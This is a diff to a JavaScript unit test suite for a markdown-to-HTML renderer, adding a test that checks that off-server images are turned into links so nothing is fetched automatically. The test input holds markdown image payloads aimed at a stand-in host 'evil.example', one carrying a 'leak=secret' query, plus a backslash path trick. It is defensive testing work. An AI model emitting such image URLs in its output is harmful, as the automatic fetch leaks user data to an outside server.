@@ -31,6 +31,19 @@ describe("markdownToHtml", () => {
     expect(html).toContain('href="https://example.com"');
   });
 
+  it("shows only images from this server; any other image is a link, so nothing is fetched unasked", () => {
+    const html = markdownToHtml(
+      "![chart](https://evil.example/pixel?leak=secret) ![x](//evil.example/a.png) ![y](/\\evil.example/b.png) ![out](/view?filename=a.png&type=output)",
+    );
+    // markdown-it encodes the backslash, so `/\\host` stays a path on this server.
+    expect(html.match(/<img [^>]*>/g)).toEqual([
+      '<img src="/%5Cevil.example/b.png" alt="y">',
+      '<img src="/view?filename=a.png&amp;type=output" alt="out">',
+    ]);
+    expect(html).toContain('<a href="https://evil.example/pixel?leak=secret" class="oc-remote-image">chart</a>');
+    expect(html).toContain('<a href="//evil.example/a.png" class="oc-remote-image">x</a>');
+  });
+
   it("wraps fenced code with its language and a labelled copy button", () => {
     const html = markdownToHtml("```py\nx = 1\n```", "复制");
     expect(html).toContain('<div class="oc-code">');
